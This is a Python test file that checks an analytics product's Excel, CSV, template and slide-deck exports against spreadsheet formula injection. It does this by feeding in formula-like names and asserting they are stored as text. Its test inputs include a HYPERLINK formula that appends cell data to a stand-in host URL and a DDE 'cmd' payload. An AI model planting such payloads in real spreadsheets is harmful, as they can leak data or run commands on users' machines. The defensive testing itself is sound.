"""No live formula anywhere the product writes a spreadsheet cell (DOMAIN §9): the deck's embedded
chart workbooks, the Excel export, the data templates and the CSV downloads store a text that starts
with =, +, -, @ as text; one module (``cellsafe``) is the only way text reaches a cell."""

from __future__ import annotations

import ast
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from ccm_analytics.export import export_workbook, readable_csv, to_csv_bytes
from ccm_analytics.outputs.deck import build_deck
from ccm_analytics.templates import write_workbook

DAY = "2018-09-05"
EVIL = ['=HYPERLINK("http://x.example/?"&A1,"x")', "=1+2", "+41 22 906", "-SUM(A1)", "@SUM(1+1)"]
CORE = Path(__file__).resolve().parent.parent / "ccm_analytics"


@pytest.fixture(scope="module")
def evil_data(sample_data):
    """The sample with its first cost lines, donors and meeting names replaced by formula-like text."""
    lines = sorted(set(sample_data.budget["cost_line"]))
    rename = dict(zip(lines, EVIL))
    donors = sorted(set(sample_data.contributions["donor"]))
    meetings = sample_data.meetings.copy()
    meetings["name"] = [EVIL[i % len(EVIL)] + f" {i}" for i in range(len(meetings))]
    return sample_data.with_frames({
        "budget": sample_data.budget.assign(cost_line=sample_data.budget["cost_line"].replace(rename)),
        "spend": sample_data.spend.assign(cost_line=sample_data.spend["cost_line"].replace(rename)),
        "contributions": sample_data.contributions.assign(
            donor=sample_data.contributions["donor"].replace(dict(zip(donors, EVIL)))),
        "meetings": meetings,
    })


def formula_cells(xlsx: bytes) -> list[str]:
    """Every cell of a workbook that holds a formula: an <f> element in any sheet's XML, or a cell
    openpyxl reads as a formula (data type 'f')."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.endswith(".xml") and re.search(rb"<(\w+:)?f[ >/]", z.read(name)):
                found.append(name)
    wb = load_workbook(io.BytesIO(xlsx))
    found += [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
              if c.data_type == "f"]
    return found


def text_cells(xlsx: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(xlsx))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_the_decks_chart_workbooks_hold_formula_like_cost_lines_as_text(evil_data):
    deck, _info = build_deck(evil_data, DAY, '=HYPERLINK("http://x","Meeting")', "=cmd|' /C calc'!A0")
    with zipfile.ZipFile(io.BytesIO(deck)) as z:
        parts = [n for n in z.namelist() if n.startswith("ppt/embeddings/") and n.endswith(".xlsx")]
        books = {n: z.read(n) for n in parts}
    assert len(parts) >= 4  # one workbook per native chart
    assert {n: formula_cells(b) for n, b in books.items() if formula_cells(b)} == {}
    labels = set().union(*(text_cells(b) for b in books.values()))
    # the cost lines reached the budget chart's workbook, as the very text of the file
    assert {'=HYPERLINK("http://x.example/?"&A1,"x")', "=1+2", "+41 22 906"} <= labels


def test_the_export_workbook_holds_formula_like_names_as_text(evil_data):
    xlsx = export_workbook(evil_data, DAY, "=1+1.xlsx")
    assert formula_cells(xlsx) == []
    assert set(EVIL) <= text_cells(xlsx) and "=1+1.xlsx" in text_cells(xlsx)


def test_the_template_writer_stores_formula_like_text_as_text(evil_data):
    buf = io.BytesIO()
    write_workbook(buf, {"budget": evil_data.budget, "meetings": evil_data.meetings}, [("=README", "-note")])
    assert formula_cells(buf.getvalue()) == []
    assert set(EVIL) <= text_cells(buf.getvalue()) and {"=README", "-note"} <= text_cells(buf.getvalue())


def test_csv_downloads_put_an_apostrophe_before_every_formula_like_text_and_header():
    frame = pd.DataFrame({"=head": EVIL + ["Travel"], "amount": [-1.0, 2.0, 3.0, 4.0, 5.0, 6.0]})
    for data in (to_csv_bytes(frame), readable_csv(frame)):
        lines = data.decode("utf-8-sig").splitlines()
        assert lines[0] == "'=head,amount"
        assert [line.rsplit(",", 1)[0] for line in lines[1:]] == [
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\"", "'=1+2", "'+41 22 906", "'-SUM(A1)",
            "'@SUM(1+1)", "Travel"]
        assert lines[1].endswith(",-1.0")  # numbers stay numbers


def test_only_the_cellsafe_module_writes_cells():
    """No other module appends worksheet rows, writes xlsxwriter cells or builds chart data itself."""
    offenders = []
    for path in CORE.rglob("*.py"):
        if path.name == "cellsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call):
                f = node.func
                name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
                owner = f.value.id if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) else ""
                if name == "CategoryChartData" or (name in ("append", "write", "write_column", "cell")
                                                     and owner in ("ws", "worksheet", "sheet", "about")):
                    offenders.append(f"{path.relative_to(CORE)}:{node.lineno} {name}")
    assert offenders == []
